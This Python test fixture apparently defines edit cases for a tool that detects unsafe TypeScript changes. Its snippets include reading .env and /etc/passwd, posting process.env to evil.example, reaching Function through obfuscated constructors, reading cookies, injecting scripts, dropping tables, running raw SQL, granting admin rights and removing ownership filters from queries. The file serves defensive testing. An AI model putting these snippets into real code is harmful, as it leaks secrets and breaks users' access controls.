"""Source that reaches beyond its program, or for what is not its own, under other spellings: as edits."""

from __future__ import annotations

from tests.diagnosis.patches import Case, edited

ROUND = "packages/core/src/round.ts"
CATALOG = "packages/core/src/catalog.ts"


def line(name: str, code: str, least: int = 2, denied: str = "") -> Case:
    """Return the case of a line, or some, in the middle of a function."""
    return edited(name, {ROUND: (("  return", f"  {code}\n  return"),)}, least, denied)


def top(name: str, code: str, least: int = 2, denied: str = "") -> Case:
    """Return the case of a line at a file's top."""
    return edited(name, {ROUND: (("export", f"{code}\nexport"),)}, least, denied)


_OUTSIDE = (
    top("imports-env", 'import s from "../../../.env?raw";'),
    top("imports-a-file-of-the-machine", 'import s from "/etc/passwd?raw";'),
    top("imports-a-query", 'import s from "./total?raw";'),
    top("imports-no-code", 'import s from "../package.json";'),
    top("imports-from-beyond", 'import s from "../../../../total";'),
    top("imports-by-an-alias", 'import s from "@/secrets.json";'),
    top("imports-env-of-a-framework", 'import { KEY } from "$env/static/private";'),
    top("imports-for-its-effects", 'import "left-pad";'),
    top("imports-cluster", 'import cluster from "node:cluster";'),
    top("imports-sqlite", 'import { DatabaseSync } from "node:sqlite";'),
    top("imports-execa", 'import { $ } from "execa";'),
    top("imports-files", 'import { readFileSync } from "fs-extra";'),
    top("imports-undici", 'import { request } from "undici";'),
    top("exports-from-another", 'export * from "left-pad";'),
    edited(
        "imports-through-what-is-known",
        {CATALOG: (('from "lodash-es";', 'from "lodash-es";\nimport s from "lodash-es/../../.env";'),)},
        2,
    ),
    line("address-of-any-kind", "const at = `${kind}://evil.example`;"),
    line("address-behind-slashes", 'void api.post("\\/\\/evil.example", value);'),
    top("imports-over-lines", "import {\n  $,\n} from 'execa';"),
    top("imports-with-a-type", 'import { type Options, $ } from "execa";'),
    top("imports-a-name-that-is-type", 'import type from "execa";'),
    top("serves", '"use server";'),
    top("serves-below", '"use client";\n"use server";'),
    line("posts-the-environment", 'const { env } = process; void axios.post("/" + "/evil.example", env);'),
    line("posts-to-a-joined-address", 'void api.post("/" + "/evil.example", value);'),
    line("built-in-by-a-joined-name", 'process?.getBuiltinModule?.("f" + "s");'),
    line("exits-behind-a-comment", "process/**/.exit(0);"),
    line("exits-over-lines", "process\n    .exit(0);"),
    line("takes-process", "const p = process;"),
    line("takes-env", "const { env } = process;"),
    line("constructor-by-a-text", '(() => 0)["constructor"]("x")();'),
    line("constructor-by-a-joined-text", '(() => 0)["const" + "ructor"]("x")();'),
    line("extends-function", "class F extends Function {}"),
    line("self-joined", 'self?.["fe"+"tch"](value);'),
    line("frames", "frames[String(value)];"),
    line("window-in-brackets", "(0, window)[String(value)];"),
    line("out-of-window", "const { open } = window;"),
    line("window-by-another-name", "const w = window;\n  w[String(value)](1);"),
    line("top-by-a-text-that-may-be", "top?.[String(value)];"),
    line("leaves-by-location", "location = value;"),
    line("element-of-code", 'const made = document.createElement("script");'),
    line("calls-by-a-name-in-parts", '(() => 0)[part + "nstructor"]("x")();'),
    line("image", "new Image().src = String(value);"),
    line("source-of-an-element", "element.src = String(value);"),
    line("cookie-by-a-text", 'document["cookie"];'),
    line("cookie-over-lines", "document\n    .cookie;"),
    line("cookie-out-of-document", "const { cookie } = document;"),
    line("html-beside", 'element.insertAdjacentHTML("beforeend", text);'),
    line("html-outside", "element.outerHTML = text;"),
    line("code-in-a-timer", 'setTimeout("alert(1)", 0);'),
    line("leaves-the-page", "window.location = String(value);"),
    line("attribute-of-events", 'element.setAttribute("onclick", text);'),
    line("prototype-by-a-function", "Object.getPrototypeOf(value);"),
    line("reads-files-by-a-pattern", 'const found = import.meta["glob"]("../data/*");'),
)

_DATA = (
    line("role-in-a-line", 'if (role === "admin") return 0;'),
    line("owner-in-a-line", "if (item.ownerId !== value) return 0;"),
    line("admin-in-a-line", "if (isAdmin) return 0;"),
    line("token-in-a-line", "if (!token) return 0;"),
    line("cookie-in-a-line", 'const seen = cookies.get("seen");'),
    line("deletes-by-a-store", "await db.delete(items);", 3),
    line("deletes-over-lines", "await db\n    .delete(items);", 3),
    line("deletes-by-prisma", "await prisma.item.delete({ id: value });", 3),
    line("deletes-many", "await tx.item.deleteMany({});", 3),
    line("drops-behind-a-comment", "await run(sql`drop/**/table items`);", 3),
    line("deletes-in-parts", 'await run("dele" + "te from items");', 3),
    line("updates-by-a-store", "await db.update(items).set({ price: 0 });"),
    line("inserts-in-sql", "await run(sql`insert into items values (1)`);"),
    line("raw-sql", "await prisma.$executeRawUnsafe(text);"),
    line("makes-an-admin", "user.admin = true;"),
    line("updates-in-sql", "await run(sql`update items set price = 0`);"),
    edited("query-of-all", {"packages/core/src/stock.ts": ((".where(eq(items.shop, shop))", ""),)}, 2),
    edited("query-of-all-users", {"packages/core/src/stock.ts": (("and(eq(items.userId, user), one)", "one"),)}, 2),
    *(edited(f"word-{path.replace('/', '-')}", {f"packages/core/src/{path}": "export const more = 1;\n"}, 2)
      for path in ("access.ts", "role.ts", "tokens.ts", "cookie.ts", "AccountPage.tsx", "identity.ts",
                   "team/members.ts",
                   "owner.ts", "proxy.ts", "hooks.server.ts", "webhooks/index.ts", "price.ts", "cart/total.ts",
                   "orders.ts", "discount.ts", "credits.ts", "balance.ts")),
)  # fmt: skip

REACHES: tuple[Case, ...] = (*_OUTSIDE, *_DATA)
